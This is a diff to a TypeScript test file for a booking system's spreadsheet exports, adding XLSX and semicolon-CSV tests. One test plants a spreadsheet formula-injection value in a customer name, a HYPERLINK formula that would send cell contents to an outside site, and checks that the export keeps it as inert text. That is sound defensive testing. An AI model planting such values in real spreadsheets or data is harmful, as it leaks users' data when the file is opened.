@@ -1,9 +1,11 @@
+import { readXlsx } from 'hucre/xlsx';
 import { beforeAll, expect, test } from 'vitest';
 import type { Booking } from '#features/bookings/bookings.contract.ts';
 import { sql } from '#platform/database/sql.ts';
 import { makeBooking } from '../support/bookings.ts';
 import { createTestApp, type TestApp } from '../support/test-app.ts';
 import type { TestClient } from '../support/test-client.ts';
+import { unzip } from '../support/unzip.ts';
 
 let site: TestApp;
 let staff: TestClient;
@@ -90,6 +92,9 @@ test('the filtered list is exported whole and in its order, however many pages t
   expect(linesOf((await client.get('/api/bookings/export?q=template')).text)).toHaveLength(2);
   expect(linesOf((await client.get('/api/bookings/export?status=paid')).text)).toHaveLength(1);
 
+  const workbook = await readXlsx((await client.get('/api/bookings/export?q=copy&format=xlsx')).bytes);
+  expect(workbook.sheets[0]?.rows).toHaveLength(2501);
+
   const { body } = await client.get('/api/bookings/count');
   expect(body).toEqual({ count: 2501, isMore: false, isAny: true });
 });
@@ -114,4 +119,61 @@ test('selecting none or too many is refused', async () => {
   expect(many.body.issues).toEqual([
     { path: 'bookingIds', message: 'Please select at most 500 bookings at a time' },
   ]);
+});
+
+const sheetType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+
+async function openWorkbook(query = '') {
+  const answer = await staff.get(`/api/bookings/export?format=xlsx&q=hostile@example.org${query}`);
+  expect(answer.status).toBe(200);
+  expect(answer.headers['content-type']).toBe(sheetType);
+  expect(answer.headers['content-disposition']).toMatch(/filename="bookings-\d{4}-\d\d-\d\d\.xlsx"$/);
+  const { sheets } = await readXlsx(answer.bytes);
+  const [head = [], ...rows] = sheets[0]?.rows ?? [];
+  const row = rows[0] ?? [];
+  return { bytes: answer.bytes, rows, cell: (name: string) => row[head.indexOf(name)], head };
+}
+
+test('a workbook has numbers as numbers, dates as dates, and texts that are never run', async () => {
+  await staff.patch(`/api/bookings/${hostile.id}/payment`, { paymentCompleted: true });
+  const { bytes, rows, cell, head } = await openWorkbook();
+  expect(rows).toHaveLength(1);
+  expect(cell('Full name')).toBe('=HYPERLINK("https://example.com?"&A1,"Żółć; click")');
+  expect(cell('Phone number')).toBe('+39 333 100 0001');
+  expect(cell('Booking Date')).toEqual(new Date('2027-06-20T00:00:00Z'));
+  expect(cell('Date of birth')).toEqual(new Date('1990-05-20T00:00:00Z'));
+  expect(cell('Created')).toBeInstanceOf(Date);
+  expect([cell('Single kayak'), cell('Tandem kayak')]).toEqual([1, 0]);
+  expect(head.slice(-6)).toEqual([
+    'Total (EUR)',
+    'Language',
+    'Created',
+    'Paid (EUR)',
+    'Refunded (EUR)',
+    'Kept (EUR)',
+  ]);
+  expect([cell('Total (EUR)'), cell('Paid (EUR)'), cell('Refunded (EUR)'), cell('Kept (EUR)')]).toEqual([
+    14, 14, 0, 14,
+  ]);
+
+  // Without the library: the parts of the archive, and no formula in them.
+  const parts = unzip(bytes);
+  expect([...parts.keys()]).toEqual(expect.arrayContaining(['[Content_Types].xml', 'xl/workbook.xml']));
+  const sheet = parts.get('xl/worksheets/sheet1.xml') ?? '';
+  expect(sheet).toContain('<t>+39 333 100 0001</t>');
+  expect(sheet).toContain('<v>14</v>');
+  expect(sheet).not.toContain('<f');
+});
+
+test('CSV for Excel has semicolons, decimal commas, a column per item and a phone without an apostrophe', async () => {
+  const { text, headers } = await staff.get('/api/bookings/export?format=csv-excel&q=hostile@example.org');
+  expect(headers['content-type']).toBe('text/csv; charset=utf-8');
+  expect(text.startsWith('\ufeff')).toBe(true);
+  const [head = '', row = ''] = linesOf(text);
+  expect(head).toMatch(/^Booking;Status;Full name;.*;Single kayak;.*Total \(EUR\);/);
+  expect(row).toContain(`;"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")";`);
+  expect(row).toContain(';(+39) 333 100 0001;1990-05-20;2027-06-20;');
+  expect(row).toContain(';"14,00";EN;');
+  const decimals = row.match(/"\d+,\d\d"/g);
+  expect(decimals).toHaveLength(4);
 });
